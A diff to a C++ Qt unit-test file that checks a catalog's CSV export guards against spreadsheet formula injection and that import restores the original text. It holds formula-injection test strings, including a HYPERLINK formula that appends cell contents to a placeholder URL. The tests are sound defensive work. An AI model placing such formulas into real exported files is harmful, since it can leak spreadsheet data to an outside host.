@@ -31,6 +31,19 @@ qint64 totalRows(QSqlDatabase &db)
     return rows;
 }
 
+QStringList formulaTexts()
+{
+    return {QStringLiteral("=HYPERLINK(\"http://x\"&A1,\"click\")"),
+            QStringLiteral("+1"),
+            QStringLiteral("-cmd"),
+            QStringLiteral("@SUM(A1)"),
+            QStringLiteral("\t=1"),
+            QStringLiteral("\r=1"),
+            QStringLiteral("'=already"),
+            QStringLiteral("''@twice"),
+            QStringLiteral("'plain")};
+}
+
 // A catalog with the shipped seed, an import and user rows whose text needs every
 // escape the format has: commas, quotes, line breaks, a backslash, "" and NULL.
 void fillCatalog(TempCatalog &temp)
@@ -42,6 +55,16 @@ void fillCatalog(TempCatalog &temp)
                        "('Quote \"test\", with comma', '', NULL, 'user', 'two\r\nlines'), "
                        "('\\N literally', '\\\\server\\share', 'x', 'user', ' padded ')")))
         << query.lastError().text().toStdString();
+    // Text a spreadsheet would run as a formula, and text that already looks guarded.
+    QSqlQuery formulas(temp.db());
+    formulas.prepare(QStringLiteral("INSERT INTO sources (title, publisher, kind, notes) "
+                                    "VALUES (?, ?, 'user', ?)"));
+    for (const QString &text : formulaTexts()) {
+        formulas.addBindValue(text);
+        formulas.addBindValue(text);
+        formulas.addBindValue(text);
+        ASSERT_TRUE(formulas.exec()) << formulas.lastError().text().toStdString();
+    }
     ASSERT_TRUE(query.exec(QStringLiteral(
         "INSERT INTO scenarios (name, json, created, modified) VALUES "
         "('mine', '{\"a\": [1, 2]}', '2026-07-01T09:00:00Z', '2026-07-02T10:00:00Z')")));
@@ -80,6 +103,50 @@ TEST(CatalogCsv, ExportImportExportIsByteIdentical)
                     .contains("\\\\N literally,\\\\\\server\\share,x"));
     EXPECT_TRUE(readAll(QDir(first).filePath(QStringLiteral("price_observations.csv")))
                     .contains(",0.30000000000000004,"));
+}
+
+// OWASP's advice for every text cell that starts like a formula: a leading quote, and
+// the field quoted. The import drops exactly that quote, so the texts come back as they
+// were (the byte-identical round trip above holds these rows too).
+TEST(CatalogCsv, NeutralisesFormulaTextAndImportRestoresIt)
+{
+    TempCatalog original(CatalogDatabase::Seeding::Skip);
+    fillCatalog(original);
+    QSqlQuery query(original.db());
+    // Numbers are never guarded: a negative one stays a number.
+    ASSERT_TRUE(query.exec(QStringLiteral("INSERT INTO porting_profiles (scenario, weeks_low, "
+                                          "source_id) SELECT '-negative', -2.5, max(id) FROM "
+                                          "sources")));
+    const QString directory = original.dir.filePath(QStringLiteral("export"));
+    ASSERT_TRUE(CatalogCsv::exportTo(*original.catalog, directory).ok());
+    const QByteArray sources = readAll(QDir(directory).filePath(QStringLiteral("sources.csv")));
+    for (const char *field : {R"x("'=HYPERLINK(""http://x""&A1,""click"")")x", R"("'+1")",
+                              R"("'-cmd")", R"x("'@SUM(A1)")x", "\"'\t=1\"", "\"'\r=1\"",
+                              R"("''=already")", R"("'''@twice")", ",'plain,"})
+        EXPECT_TRUE(sources.contains(field)) << field << "\n" << sources.toStdString();
+    for (const char *live : {",=", ",+", ",@", ",-c", "\n=", "\n+", "\n@"})
+        EXPECT_FALSE(sources.contains(live)) << live;
+    EXPECT_TRUE(readAll(QDir(directory).filePath(QStringLiteral("porting_profiles.csv")))
+                    .contains(R"(,"'-negative",-2.5,)"));
+
+    TempCatalog copy;
+    const ImportReport report = CatalogCsv::importFrom(*copy.catalog, directory);
+    ASSERT_FALSE(report.refused) << report.message.toStdString();
+    EXPECT_EQ(report.rowsRejected, 0) << report.rejections.join('\n').toStdString();
+    QSqlQuery titles(copy.db());
+    ASSERT_TRUE(titles.exec(
+        QStringLiteral("SELECT title, publisher FROM sources WHERE notes = title ORDER BY id")));
+    QStringList imported;
+    while (titles.next()) {
+        EXPECT_EQ(titles.value(0), titles.value(1));
+        imported << titles.value(0).toString();
+    }
+    EXPECT_EQ(imported, formulaTexts());
+    QSqlQuery profile(copy.db());
+    ASSERT_TRUE(profile.exec(QStringLiteral("SELECT scenario, weeks_low FROM porting_profiles")) &&
+                profile.next());
+    EXPECT_EQ(profile.value(0).toString(), QStringLiteral("-negative"));
+    EXPECT_EQ(profile.value(1).toDouble(), -2.5);
 }
 
 TEST(CatalogCsv, ReimportingAddsNothingAndFollowsExistingRows)
